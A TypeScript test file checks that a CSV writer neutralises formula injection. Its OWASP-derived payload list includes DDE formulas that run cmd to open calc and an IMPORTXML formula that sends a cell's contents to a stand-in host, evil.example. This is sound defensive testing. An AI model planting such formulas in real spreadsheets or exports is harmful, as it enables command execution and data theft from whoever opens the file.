import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { csvCell, looksLikeFormula, toCsv } from './csv';

/** What a spreadsheet sees in a quoted cell: the text between the quotes, "" unescaped. */
const unquote = (cell: string) => cell.slice(1, -1).replace(/""/g, '"');
/** A cell is safe when its text starts with ' or cannot be read as a formula. */
const safe = (cell: string) => {
  const text = unquote(cell);
  return text.startsWith("'") || !looksLikeFormula(text);
};

/** Payloads from OWASP's CSV-injection page and common variants (leading spaces, full-width signs). */
const OWASP = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","click")',
  '=IMPORTXML(CONCAT("https://evil.example/?", A1), "//a")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '   +1',
  '\u00a0=1',
  '\u3000=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1,1)',
  ' ＝1',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
];

describe('CSV cells', () => {
  it.each(OWASP)('neutralises %j', (payload) => {
    const cell = csvCell(payload);
    expect(unquote(cell)).toBe(`'${payload}`);
    expect(safe(cell)).toBe(true);
  });

  it('leaves ordinary text and numbers alone', () => {
    expect(csvCell('Acme Ltd')).toBe('"Acme Ltd"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(-5)).toBe('"-5"');
    expect(csvCell(-0)).toBe('"0"');
    expect(csvCell(Number.NaN)).toBe('""');
    expect(csvCell(null)).toBe('""');
  });

  it('1,000 random strings: no cell a spreadsheet would read as a formula, and the text survives', () => {
    const alphabet = fc.constantFrom(...'=+-@＝＋－＠ \t\r\n\u00a0\u3000"\',;|abcAZ019()!'.split(''));
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.string({ unit: alphabet, maxLength: 12 })), (s) => {
        const cell = csvCell(s);
        expect(safe(cell)).toBe(true);
        const text = unquote(cell);
        expect(text === s || text === `'${s}`).toBe(true);
      }),
      { numRuns: 1000 },
    );
  });

  it('writes rows with CRLF line ends', () => {
    expect(
      toCsv([
        ['a', 1],
        ['=b', null],
      ]),
    ).toBe('"a","1"\r\n"\'=b",""\r\n');
  });
});
